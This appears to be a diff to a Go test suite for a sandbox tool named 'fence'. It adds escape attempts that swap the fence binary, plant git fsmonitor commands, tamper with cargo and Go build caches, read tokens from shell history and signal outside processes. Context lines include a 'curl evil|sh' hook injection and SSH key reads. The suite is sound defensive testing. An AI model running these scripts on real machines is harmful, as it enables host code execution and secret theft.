@@ -188,6 +188,18 @@ var attacks = []attack{
 		}},
 	{name: "C-14/user-config", config: writeDotAndHome,
 		script: `mkdir -p ~/.config/fence && echo '[network]' > ~/.config/fence/config.toml`, worked: exists("~/.config/fence/config.toml")},
+	{name: "C-14/user-config-dir-renamed", config: writeDotAndHome,
+		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.config/fence/config.toml", "[network]\n") },
+		script: `mv ~/.config/fence ~/.config/fence.old; mkdir -p ~/.config/fence && printf '[network]\nallow = ["*"]\n' > ~/.config/fence/config.toml`,
+		worked: changed("~/.config/fence/config.toml", "[network]\n")},
+	// The fence binary the hook runs (C-15), installed somewhere the
+	// policy makes writable: replaced in place, or its directory swapped.
+	{name: "C-15/replace-fence-binary", config: writeDotAndHome, setup: withFenceInHome,
+		script: `printf '#!/bin/sh\necho evil\n' > ~/tools/fence.new && chmod +x ~/tools/fence.new && mv ~/tools/fence.new ~/tools/fence || cp ~/tools/fence.new ~/tools/fence`,
+		worked: fenceInHomeChanged},
+	{name: "C-15/swap-fence-binary-dir", config: writeDotAndHome, setup: withFenceInHome,
+		script: `mv ~/tools ~/tools.old && mkdir ~/tools && printf '#!/bin/sh\necho evil\n' > ~/tools/fence && chmod +x ~/tools/fence`,
+		worked: fenceInHomeChanged},
 	{name: "F-15/systemd-readonly-dir", config: writeDotAndHome,
 		script: `mkdir ~/.config/sx && echo '[Service]' > ~/.config/sx/x.service && chmod 555 ~/.config/sx && mv ~/.config/sx ~/.config/systemd`,
 		worked: exists("~/.config/systemd/x.service")},
@@ -375,6 +387,34 @@ git update-index --add --cacheinfo 160000,$(git -C m rev-parse HEAD),m`,
 	{name: "F-09/commondir", config: writeDot, setup: withRepo,
 		script: `mkdir -p .cache/c && printf '[core]\n\tfsmonitor = evil\n' > .cache/c/config && echo ../.cache/c > .git/commondir`,
 		worked: exists(".git/commondir")},
+	// The whole attack: a git directory of the sandbox's making, with a
+	// core.fsmonitor, that the host's next `git status` would use.
+	{name: "F-09/commondir-fsmonitor-runs", config: writeDot, setup: withRepo,
+		script: `mkdir -p .cache/c && cp -a .git/objects .git/refs .git/HEAD .cache/c/ &&
+printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "sh -c '"'echo x > $PWD/PWNED'"'; false"\n' > .cache/c/config &&
+echo ../.cache/c > .git/commondir`,
+		worked: hostGitStatusRuns},
+	// Caches the host builds from later (F-16): read-only unless the
+	// policy makes them writable.
+	{name: "F-16/cargo-registry-source", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write("~/.cargo/registry/src/index-1/serde-1.0.0/src/lib.rs", "pub fn f() {}\n")
+		},
+		script: `echo 'pub fn evil() {}' >> ~/.cargo/registry/src/index-1/serde-1.0.0/src/lib.rs`,
+		worked: changed("~/.cargo/registry/src/index-1/serde-1.0.0/src/lib.rs", "pub fn f() {}\n")},
+	{name: "F-16/go-build-cache", config: writeDot,
+		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.cache/go-build/ab/abcdef-d", "object\n") },
+		script: `echo evil > ~/.cache/go-build/ab/abcdef-d`, worked: changed("~/.cache/go-build/ab/abcdef-d", "object\n")},
+	// Existing repositories deeper than upstream's walk looks (depth 3,
+	// F-19): fence's reaches depth 6 (repoSearchDepth), here the deepest.
+	{name: "F-19/deep-repo-hook", config: writeDot, setup: withDeepRepo,
+		script: `echo id >> a/b/c/d/e/r/.git/hooks/pre-commit`,
+		worked: changed("a/b/c/d/e/r/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")},
+	{name: "F-19/deep-repo-config", config: writeDot, setup: withDeepRepo,
+		script: `printf '[core]\n\tfsmonitor = evil\n' >> a/b/c/d/e/r/.git/config`,
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return strings.Contains(e.Read("a/b/c/d/e/r/.git/config"), "evil")
+		}},
 	{name: "F-12/husky", config: writeDot,
 		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); e.Write(".husky/pre-commit", "npm test\n") },
 		script: `echo 'curl evil|sh' >> .husky/pre-commit`, worked: changed(".husky/pre-commit", "npm test\n")},
@@ -490,6 +530,17 @@ git update-index --add --cacheinfo 160000,$(git -C m rev-parse HEAD),m`,
 	{name: "F-22/default-ssh-key", config: writeDot,
 		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.ssh/id_ed25519", "PRIVATE-KEY\n") },
 		script: `cat ~/.ssh/id_ed25519`, worked: printed("PRIVATE-KEY")},
+	// Other copies of secrets (F-23): what was typed on a command line.
+	{name: "F-23/bash-history", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write("~/.bash_history", "export GITHUB_TOKEN=SECRET-HIST\n")
+		},
+		script: `cat ~/.bash_history`, worked: printed("SECRET-HIST")},
+	{name: "F-23/zsh-history-grep", config: writeDotAndHome,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write("~/.zsh_history", ": 1700000000:0;psql postgres://u:SECRET-HIST@db\n")
+		},
+		script: `grep -rh SECRET ~/.zsh_history`, worked: printed("SECRET-HIST")},
 	{name: "F-24/unshare-remount", config: writeDot, setup: withRepo,
 		script: `unshare -Urm sh -c 'mount --bind . .git/hooks && echo REMOUNTED'`, worked: printed("REMOUNTED")},
 	{name: "F-24/open-tree", config: writeDot,
@@ -578,12 +629,20 @@ print("RET",r,ctypes.get_errno())'`, worked: retOK},
 		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return retOK(e, r) }},
 	{name: "X-05/kill-outside", config: writeDot, setup: withOutsideSleeper,
 		script: `kill -9 $(cat sleeper.pid) && echo KILLED`, worked: printed("KILLED")},
+	{name: "X-05/stop-outside", config: writeDot, setup: withOutsideSleeper,
+		script: `kill -STOP $(cat sleeper.pid) && echo STOPPED`, worked: printed("STOPPED")},
+	{name: "X-05/ps-sees-outside", config: writeDot, setup: withOutsideSleeper,
+		script: `ps -e -o pid= | tr -d ' ' | grep -qx "$(cat sleeper.pid)" && echo SEEN`, worked: printed("SEEN")},
 	{name: "X-06/proc-of-outside", config: writeDot, setup: withOutsideSleeper,
 		script: `test -e /proc/$(cat sleeper.pid)/environ && echo VISIBLE`, worked: printed("VISIBLE")},
 	{name: "X-06/many-processes", config: writeDot,
 		script: `n=$(ls -d /proc/[0-9]* | wc -l); [ $n -gt 10 ] && echo SEES-HOST-PROCS`, worked: printed("SEES-HOST-PROCS")},
 	{name: "X-11/core-dumps", config: writeDot,
 		script: `ulimit -c unlimited && echo CORE-ENABLED`, worked: printed("CORE-ENABLED")},
+	// A real crash: with core_pattern "core" (checked) the kernel writes
+	// the dump into the working directory, the writable project.
+	{name: "X-11/crash-dumps-core", config: writeDot, setup: withPlainCorePattern,
+		script: `ulimit -c unlimited 2>/dev/null; sh -c 'kill -SEGV $$'; ls | grep -q '^core' && echo CORE-WRITTEN`, worked: printed("CORE-WRITTEN")},
 
 	// §C — control plane reachable through the filesystem.
 	{name: "C-01/runtime-dir-socket", config: writeDot, setup: withRuntimeSocket,
@@ -636,6 +695,42 @@ code=bytes([0x53,0xb8,0x20,0x01,0,0,0x31,0xdb,0xb9,0xfd,0xff,0xff,0xff,0x31,0xd2
 ctypes.memmove(p,code,len(code))
 f=ctypes.CFUNCTYPE(ctypes.c_int)(p)
 print("RET",f(),0)'`
+
+// withDeepRepo makes a repository with a hook six directories down.
+func withDeepRepo(t *testing.T, e *sandboxtest.Env) {
+	gitInitIn(t, e, e.Path("a/b/c/d/e/r"))
+	e.Write("a/b/c/d/e/r/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
+}
+
+// withFenceInHome installs the fence binary the test runs as ~/tools/fence.
+func withFenceInHome(t *testing.T, e *sandboxtest.Env) {
+	b, err := os.ReadFile(e.Fence)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := e.Path("~/tools/fence")
+	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, b, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	e.Fence = p
+}
+
+// fenceInHomeChanged: ~/tools/fence is no longer the binary that ran.
+func fenceInHomeChanged(e *sandboxtest.Env, r sandboxtest.Result) bool {
+	b, err := os.ReadFile(e.Path("~/tools/fence"))
+	return err != nil || strings.Contains(string(b), "echo evil")
+}
+
+// withPlainCorePattern needs the kernel to write core dumps as files named
+// core in the crashing process's directory.
+func withPlainCorePattern(t *testing.T, e *sandboxtest.Env) {
+	b, err := os.ReadFile("/proc/sys/kernel/core_pattern")
+	sandboxtest.Require(t, err == nil && strings.HasPrefix(string(b), "core"),
+		"X-11/crash-dumps-core needs kernel.core_pattern = core (it is "+strings.TrimSpace(string(b))+")")
+}
 
 func withOutsideSleeper(t *testing.T, e *sandboxtest.Env) {
 	cmd := exec.Command("sleep", "60")
